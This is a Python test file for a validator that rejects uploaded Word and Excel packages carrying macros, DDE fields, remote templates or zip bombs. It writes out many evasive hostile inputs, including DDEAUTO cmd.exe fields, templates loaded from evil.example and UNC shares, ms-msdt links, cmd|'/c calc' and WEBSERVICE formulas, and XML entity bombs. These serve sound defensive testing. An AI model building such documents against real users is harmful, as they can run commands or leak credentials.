"""Office files that do more than their name says."""

from __future__ import annotations

import struct
import time
import tracemalloc
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import pytest

from stations.errors import InvalidInput
from stations.requests.attached_file import check_file
from stations.requests.office_package import UNPACKED_LIMIT
from tests.stations.file_samples import document, understated, workbook

TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"


def rebuilt(content: bytes, changes: dict[str, bytes | None], method: int = ZIP_DEFLATED) -> bytes:
    """Return the package with parts added, replaced or (None) left out."""
    written = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(written, "w", method) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, part in changes.items():
            if part is not None:
                new.writestr(name, part)
    return written.getvalue()


def part(content: bytes, name: str) -> bytes:
    with ZipFile(BytesIO(content)) as package:
        return package.read(name)


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        f'<?xml version="1.0"?><r:Relationships xmlns:r="{RELATIONSHIPS}">'
        f'<r:Relationship Id="x" Type="{kind}" Target="{target}"{mode}/></r:Relationships>'
    ).encode()


def typed(content: bytes, declared: str) -> bytes:
    return part(content, "[Content_Types].xml").replace(b"</Types>", declared.encode() + b"</Types>")


def text(instruction: str) -> bytes:
    body = part(document(), "word/document.xml")
    return body.replace(b"<w:sectPr", f"<w:p><w:r>{instruction}</w:r></w:p><w:sectPr".encode(), 1)


BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
PROGRAMS = {
    "macros beside a harmless content type": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
    "macros under another name": {
        "word/picture.bin": b"\xd0\xcf\x11\xe0",
        "[Content_Types].xml": typed(
            document(), '<Override PartName="/word/picture.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
    },
    "macros by a relationship": {
        "word/_rels/other.xml.rels": linked(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a", ""
        )
    },
    "ActiveX": {"word/activeX/activeX1.xml": b"<a/>"},
    "embedded object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
    "a program": {"word/media/setup.exe": b"MZ"},
    "name in escapes": {"word/%76baProject.bin": b"\xd0\xcf\x11\xe0"},
    "DDE field": {
        "word/document.xml": text('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>')
    },
    "field in a character reference": {"word/document.xml": text("<w:instrText>&#68;DEAUTO c</w:instrText>")},
    "field in two runs": {
        "word/document.xml": text("<w:instrText> D</w:instrText></w:r><w:r><w:instrText>DEAUTO c</w:instrText>")
    },
    "field in many runs": {
        "word/document.xml": text(
            BEGIN + "".join(f"<w:instrText>{sign}</w:instrText>" for sign in "   INCLUDETEXT a") + END
        )
    },
    "field within a field": {
        "word/document.xml": text(
            f"{BEGIN}<w:instrText>IF 1 = 1 </w:instrText>{BEGIN}<w:instrText>LINK</w:instrText>"
            f"<w:instrText> Excel.Sheet c</w:instrText>{END}{END}"
        )
    },
    "field after a field": {
        "word/document.xml": text(
            f"{BEGIN}<w:instrText>PAGE</w:instrText>{END}{BEGIN}<w:instrText>dde c</w:instrText>{END}"
        )
    },
    "field that does not end": {"word/document.xml": text(f"{BEGIN}<w:instrText>DDE c</w:instrText>")},
    "deleted field": {"word/document.xml": text(f"{BEGIN}<w:delInstrText>DDE c</w:delInstrText>{END}")},
    "field behind much white space": {
        "word/document.xml": text(f"<w:instrText>{' ' * 200_000}</w:instrText><w:instrText>DDE c</w:instrText>")
    },
    "field in marked text": {"word/document.xml": text("<w:instrText><![CDATA[DDE]]>AUTO c</w:instrText>")},
    "field with a comment": {"word/document.xml": text("<w:instrText>D<!-- -->DEAUTO c</w:instrText>")},
    "field under another prefix": {
        "word/document.xml": text("<w:instrText>DDEAUTO c</w:instrText>")
        .replace(b"w:", b"w-x:")
        .replace(b"xmlns:w=", b"xmlns:w-x=")
    },
    "field in UTF-16": {
        "word/document.xml": text("<w:instrText>DDEAUTO c</w:instrText>").decode().partition("?>")[2].encode("utf-16")
    },
    "field in a part of another name": {"word/a.bin": text("<w:instrText>DDEAUTO c</w:instrText>")},
    "simple field in a character reference": {
        "word/document.xml": text('<w:fldSimple w:instr="&#x49;NCLUDEPICTURE a"/>')
    },
    "a web page that is read into the text": {
        "word/_rels/document.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "aFChunk"), "page.html", ""),
        "word/page.html": b"<script>",
    },
    "picture fetched by a field": {
        "word/document.xml": text('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e.example/a&quot;"/>')
    },
}
ELSEWHERE = {
    "template": {"word/_rels/settings.xml.rels": linked(TEMPLATE, "http://evil.example/a.dotm")},
    "template on a share": {"word/_rels/settings.xml.rels": linked(TEMPLATE, "\\\\evil.example\\a.dotm")},
    "template in the strict standard": {
        "word/_rels/settings.xml.rels": linked(
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "https://evil.example/a"
        )
    },
    "template that says it is inside": {
        "word/_rels/settings.xml.rels": linked(TEMPLATE, "https://evil.example/a.dotm", "")
    },
    "template called a link": {
        "word/_rels/settings.xml.rels": linked(
            TEMPLATE.replace("attachedTemplate", "hyperlink"), "https://evil.example/a"
        )
    },
    "frame": {"word/_rels/webSettings.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "frame"), "file://e/a")},
    **{
        f"a hyperlink to {target}": {
            "word/_rels/document.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "hyperlink"), target)
        }
        for target in (
            *("\\\\e.example\\a", "//e.example/a", "/%5Ce.example/a"),
            *("file://e.example/a", "file:///\\\\e.example\\a", "ms-msdt:/id a"),
        )
    },
    "picture": {
        "word/_rels/header1.xml.rels": linked(TEMPLATE.replace("attachedTemplate", "image"), "http://e.example")
    },
}


@pytest.mark.parametrize("changes", PROGRAMS.values(), ids=PROGRAMS)
def test_a_document_that_carries_a_program_is_refused(changes: dict[str, bytes]) -> None:
    with pytest.raises(InvalidInput, match="“a.docx” carries macros, controls or embedded programs"):
        check_file("a.docx", rebuilt(document(), changes))


@pytest.mark.parametrize("changes", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_document_that_loads_something_from_elsewhere_is_refused(changes: dict[str, bytes]) -> None:
    with pytest.raises(InvalidInput, match="“a.docx” loads a template, picture or workbook from elsewhere"):
        check_file("a.docx", rebuilt(document(), changes))


def test_a_workbook_is_read_in_the_same_way() -> None:
    with pytest.raises(InvalidInput, match="carries macros"):
        check_file("a.xlsx", rebuilt(workbook(), {"xl/vbaProject.bin": b"x"}))
    link = linked(TEMPLATE.replace("attachedTemplate", "externalLinkPath"), "file:///\\\\e.example\\a.xlsx")
    with pytest.raises(InvalidInput, match="from elsewhere"):
        check_file("a.xlsx", rebuilt(workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": link}))
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    with pytest.raises(InvalidInput, match="carries macros"):
        check_file("a.xlsx", rebuilt(workbook(), {"xl/externalLinks/externalLink1.xml": dde}))


def sheet(formula: str) -> bytes:
    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>".encode()


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A1",
        "'cmd'|'/c calc'!A1",
        '_xlfn.WEBSERVICE("http://e.example/"&amp;A1)',
        "1+_xlfn.IMAGE (A1)",
        'RTD("a",,"b")',
        'webservice(&quot;http://e.example&quot;)',
        "&#x57;EBSERVICE(A1)",
    ],
)
def test_a_formula_that_fetches_or_runs_something_is_refused(formula: str) -> None:
    with pytest.raises(InvalidInput, match="carries macros"):
        check_file("a.xlsx", rebuilt(workbook(), {"xl/worksheets/sheet2.xml": sheet(formula)}))


@pytest.mark.parametrize("formula", ["SUM(A1:A9)", 'IF(A1="WEBSERVICE(",1,2)', "图像!A1*2", 'A1&"|"&B1', "MYIMAGE+1"])
def test_an_ordinary_formula_is_taken(formula: str) -> None:
    content = rebuilt(workbook(), {"xl/worksheets/sheet2.xml": sheet(formula.replace("&", "&amp;"))})
    assert check_file("a.xlsx", content).name == "a.xlsx"


@pytest.mark.parametrize(
    "target", ["https://a.example", "mailto:a@b.example", "file:///C:/a.docx", "D:\\a.docx", "other.docx", "#here"]
)
def test_a_hyperlink_to_the_net_or_into_ones_own_folders_is_taken(target: str) -> None:
    link = linked(TEMPLATE.replace("attachedTemplate", "hyperlink"), target)
    assert check_file("a.docx", rebuilt(document(), {"word/_rels/document.xml.rels": link})).name == "a.docx"


def test_a_link_that_a_person_follows_and_a_word_about_dde_are_no_programs() -> None:
    link = linked(TEMPLATE.replace("attachedTemplate", "hyperlink"), "https://www.samr.gov.cn/")
    body = text(
        "<w:t>DDE and DDT in soil; INCLUDE the blank</w:t>"
        f'{BEGIN}<w:instrText>HYPER</w:instrText><w:instrText>LINK "https://a.example"</w:instrText>{END}'
        f"{BEGIN}<w:instrText>TOC \\o</w:instrText><w:instrText> DDE</w:instrText>{END}"
    )
    content = rebuilt(document(), {"word/_rels/footnotes.xml.rels": link, "word/document.xml": body})
    assert check_file("a", content).name == "a.docx"


def test_a_package_that_unpacks_to_half_a_gigabyte_is_refused() -> None:
    with pytest.raises(InvalidInput, match="unpacks to more than 100 MB"):
        check_file("a.docx", rebuilt(document(), {"word/media/a.xml": bytes(UNPACKED_LIMIT + 1)}))


def test_a_bomb_that_gives_a_small_size_is_refused_all_the_same() -> None:
    size = 20_000_000
    bomb = bytearray(rebuilt(document(), {"word/a.xml": bytes(size)}))
    at = -1
    while (at := bomb.find(struct.pack("<I", size), at + 1)) >= 0:
        bomb[at : at + 4] = struct.pack("<I", 10)
    with pytest.raises(InvalidInput, match="can't be read as DOCX"):
        check_file("a.docx", bytes(bomb))


@pytest.mark.parametrize("name", ["[Content_Types].xml", "_rels/.rels", "word/document.xml"])
def test_a_bomb_is_not_unpacked_beyond_the_size_that_it_gives(name: str) -> None:
    bomb = understated(document(), name, b"<a/>" + b" " * 40_000_000)
    tracemalloc.start()
    with pytest.raises(InvalidInput):
        check_file("a.docx", bomb)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 5_000_000


@pytest.mark.parametrize(
    "text",
    ["<instrText " * 50_000, "<a>" + "<instrText>" * 50_000, "<a b='" + "x" * 8_000_000, "<!--" + "<a " * 3_000_000],
    ids=["tags", "depth", "attribute", "comment"],
)
def test_no_text_of_a_part_takes_long(text: str) -> None:
    content = rebuilt(document(), {"word/document.xml": text.encode()})
    began = time.process_time()
    with pytest.raises(InvalidInput, match="can't be read as DOCX"):
        check_file("a.docx", content)
    assert time.process_time() - began < 2


def test_a_picture_that_declares_a_document_type_is_taken() -> None:
    types = typed(document(), '<Default Extension="svg" ContentType="image/svg+xml"/>')
    drawing = b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'
    parts = {"[Content_Types].xml": types, "word/media/a.svg": drawing, "word/media/b.bin": b"<a><b>"}
    assert check_file("a", rebuilt(document(), parts)).name == "a.docx"


def test_parts_that_two_programs_would_read_differently_are_refused() -> None:
    content = document()
    renamed = content.replace(b"docProps/app.xml", b"docProps/apq.xml", 1)  # in its own header alone
    written = BytesIO(content)
    with pytest.warns(UserWarning, match="Duplicate name"), ZipFile(written, "a") as package:
        package.writestr("word/document.xml", "<a/>")
    for bad in (renamed, written.getvalue(), rebuilt(content, {"../a.xml": b"<a/>"})):
        with pytest.raises(InvalidInput, match="can't be read as DOCX"):
            check_file("a.docx", bad)


def test_a_package_packed_in_an_unusual_way_is_not_unpacked() -> None:
    with pytest.raises(InvalidInput, match="its content is not that; save it anew"):
        check_file("a.docx", rebuilt(document(), {}, ZIP_BZIP2))


def test_a_document_type_is_not_read() -> None:
    entities = b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'
    for spelled in (entities, entities.decode().encode("utf-16")):
        with pytest.raises(InvalidInput, match="can't be read as DOCX"):
            check_file("a.docx", rebuilt(document(), {"word/_rels/other.xml.rels": spelled}))


def test_what_the_main_part_is_counts_not_what_is_written_somewhere() -> None:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = part(workbook(), "[Content_Types].xml").replace(b"<Types", b'<!-- "' + kind + b'" --><Types', 1)
    assert check_file("a", rebuilt(workbook(), {"[Content_Types].xml": types})).name == "a.xlsx"
